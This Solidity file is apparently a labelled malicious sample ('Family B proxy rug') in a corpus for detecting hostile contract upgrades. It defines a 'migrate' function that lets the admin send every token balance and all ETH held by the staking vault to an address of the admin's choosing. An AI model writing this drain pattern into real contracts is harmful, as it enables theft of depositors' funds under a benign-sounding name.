// SPDX-License-Identifier: MIT
// Family B proxy rug: the staking vault's admin upgrades the proxy to an implementation that
// lets the admin take every deposit.
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts-v4/token/ERC20/IERC20.sol";
import {StakingVaultV1} from "../benign/Staking.sol";

contract StakingVaultMigrator is StakingVaultV1 {
    function migrate(address payable to, IERC20[] calldata tokens) external {
        require(msg.sender == admin, "admin");
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transfer(to, tokens[i].balanceOf(address(this)));
        }
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok, "eth");
    }
}
